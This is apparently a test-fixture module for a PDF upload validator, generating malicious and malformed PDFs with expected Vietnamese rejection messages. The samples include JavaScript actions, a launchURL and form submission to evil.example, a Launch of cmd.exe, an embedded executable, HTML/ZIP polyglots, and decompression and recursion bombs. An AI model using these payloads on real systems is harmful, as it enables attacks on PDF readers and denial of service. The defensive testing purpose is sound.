/* Papers that attack. Rows as index.mjs says. Objects of makePdf: 1 catalog, 2 pages, 3 page, 4 content, 5… ours. */
import zlib from 'node:zlib';
import { makePdf, streamOf } from '../make-pdf.mjs';
import { all, flatJpeg } from './parts.mjs';

const packed = (bytes, entries = '') => streamOf(`/Filter /FlateDecode ${entries}`, zlib.deflateSync(bytes, { level: 9 }));
/* A page whose content is `text`, with resources and more objects from 5 on. */
const drawn = (text, resources = '', extra = []) => makePdf({ content: streamOf('', Buffer.from(text)), page: `/Resources << ${resources} >>`, extra });
const image = (entries, bytes = Buffer.alloc(64, 0x5a)) => drawn('200 0 0 200 9 9 cm /I Do', '/XObject << /I 5 0 R >>', [streamOf(`/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8 ${entries}`, bytes)]);
const deep = (open, close, n) => open.repeat(n) + close.repeat(n);

/* A cross-reference that leads to itself, or away. */
const linked = (prev) => {
  const pdf = makePdf({ trailer: `/Prev ${prev}` });
  return pdf;
};
const startOf = (pdf) => Number(/startxref\n(\d+)/.exec(pdf.toString('latin1'))[1]);
const SELF = startOf(makePdf());

export const papers = [
  ['with a password', makePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>' }), 'khóa'],
  ['locked by a handler of nobody', makePdf({ trailer: '/Encrypt << /Filter /Evil /V 9 >>' }), /./],
  ['scripted at its opening', makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }), 'JavaScript'],
  ['scripted in a name tree', makePdf({ catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>' }), 'JavaScript'],
  ['scripted on a page', makePdf({ page: '/AA << /O << /S /JavaScript /JS 5 0 R >> >>', extra: [streamOf('', Buffer.from('app.launchURL("http://evil.example")'))] }), 'JavaScript'],
  ['scripted by a name in escapes', makePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }), 'JavaScript'],
  ['that starts a program', makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'lệnh mở chương trình'],
  ['that sends what is filled in', makePdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]' }), 'lệnh mở chương trình'],
  ['that opens another file', makePdf({ catalog: '/OpenAction << /S /GoToE /F (other.pdf) >>' }), /./],
  ['with files inside', makePdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 5 0 R >> >>] >> >>', extra: [streamOf('/Type /EmbeddedFile', Buffer.from('MZ'))] }), 'đính kèm'],
  ['with a film', makePdf({ page: '/Annots [<< /Subtype /RichMedia >>]' })],
  ['of XFA', makePdf({ catalog: '/AcroForm << /XFA [] >>' }), 'XFA'],
  ['of 200 pages', makePdf({ pages: 200 }), 'quá nhiều trang'],
  ['of no page', makePdf({ pages: 0 }), 'không có trang'],
  ['of a page of a square million', makePdf({ page: '/MediaBox [0 0 1000000 1000000]' }), 'kích thước'],
  ['of a page that is nowhere', makePdf({ page: '/MediaBox [0 0 1e308 nan]' }), /./],
  ['of a page tree in a circle', makePdf({ extra: [], page: '/Kids [2 0 R] /Type /Pages' }), /./],
  ['whose pages are their own parent', makePdf({ catalog: '/Pages 1 0 R' }), /./],
  ['whose stream tells its length by itself', makePdf({ content: Buffer.from('<< /Length 4 0 R >>\nstream\nx\nendstream') }), /./],
  ['whose table leads to itself', linked(SELF)],
  ['whose table leads outside', linked(999999999), /./],
  ['of lists in lists', makePdf({ catalog: `/A ${deep('[', ']', 100_000)}` }), /./],
  ['of dictionaries in dictionaries', makePdf({ catalog: `/A ${deep('<</A ', '>>', 50_000)}` }), /./],
  ['of a chain of ten thousand references', makePdf({ catalog: '/A 5 0 R', extra: Array.from({ length: 10_000 }, (_, i) => `[${6 + i} 0 R]`) })],
  ['whose content opens and never closes', drawn('q '.repeat(200_000))],
  ['whose content is lists in lists', drawn(`${deep('[', ']', 100_000)} TJ`)],
  ['whose form draws itself', drawn('/X Do', '/XObject << /X 5 0 R >>', [streamOf('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>', Buffer.from('/X Do /X Do'))])],
  ['whose letters are drawn by themselves', drawn('BT /F 20 Tf (aaaa) Tj ET', '/Font << /F 5 0 R >>', ['<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F 5 0 R >> >> >>', streamOf('', Buffer.from('9 0 d0 BT /F 1 Tf (aaaa) Tj ET'))]), 'quá nhiều thời gian', true],
  ['whose pattern is finer than dust', drawn('/Pattern cs /P scn 0 0 595 842 re f', '/Pattern << /P 5 0 R >>', [streamOf('/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>', Buffer.from('1 0 0 rg 0 0 1 1 re f'))]), 'quá nhiều thời gian', true],
  ['of a shading by a table of four thousand million', drawn('/S sh', '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function << /FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Size [65535 65535] /BitsPerSample 32 >> >> >>')],
  ['of a font that is none', drawn('BT /F 20 Tf (abc) Tj ET', '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /Type /FontDescriptor /FontName /X /FontFile2 5 0 R >> >> >>', [streamOf('', Buffer.alloc(4096, 0x77))])],
  ['of a picture of 2,147,483,647 × 2,147,483,647', image('/Width 2147483647 /Height 2147483647')],
  ['of a picture of less than nothing', image('/Width -5 /Height -5')],
  ['of a picture of 30,000 × 30,000', image('/Width 30000 /Height 30000 /Filter /FlateDecode', zlib.deflateSync(Buffer.alloc(64 << 20), { level: 9 }))],
  ['of JPEG 2000 that is none', image('/Width 9 /Height 9 /Filter /JPXDecode')],
  ['of JBIG2 that is none', image('/Width 9 /Height 9 /Filter /JBIG2Decode')],
  ['of a fax that is none', image('/Width 9 /Height 9 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>')],
  ['of a JPEG that lies', image('/Width 9 /Height 9 /Filter /DCTDecode', flatJpeg({ claim: [65535, 65535] }))],
  ['of a mask that masks itself', image('/Width 9 /Height 9 /SMask 5 0 R', Buffer.alloc(243))],
  ['of a predictor of a thousand colours', makePdf({ content: packed(Buffer.alloc(9999), '/DecodeParms << /Predictor 15 /Colors 1000000 /BitsPerComponent 16 /Columns 2147483647 >>') })],
  ['packed a hundred times', makePdf({ content: streamOf(`/Filter [${'/FlateDecode '.repeat(100)}]`, zlib.deflateSync(Buffer.alloc(1000))) })],
  ['of 600 MB', makePdf({ content: packed(Buffer.alloc(600 << 20)) }), /./],
  ['with an archive behind', all(makePdf(), 'PK\x03\x04', Buffer.alloc(26), 'PK\x05\x06', Buffer.alloc(18)), 'vừa là PDF'],
  ['with a page behind', all(makePdf(), '<script>alert(1)</script>'), 'vừa là PDF'],
  ['under the head of a JPEG', all(flatJpeg().subarray(0, 40), makePdf()), /./],
  ['that is only a head', Buffer.from('%PDF-1.7\n'), /./],
].map(([name, bytes, refused, slow]) => ({ name: `PDF ${name}`, bytes, refused, slow }));

/* Each object, the table and the trailer, begun and ended. */
const whole = makePdf({ pages: 2 });
const edges = [...whole.toString('latin1').matchAll(/\d+ 0 obj|endobj|stream\n|endstream|xref|trailer|startxref|%%EOF/g)].flatMap((found) => [found.index, found.index + found[0].length]);
export const cutPapers = [...new Set(edges)].filter((end) => end > 0 && end < whole.length - 1).map((end) => ({ name: `PDF cut at ${end}`, bytes: whole.subarray(0, end), refused: /./ }));
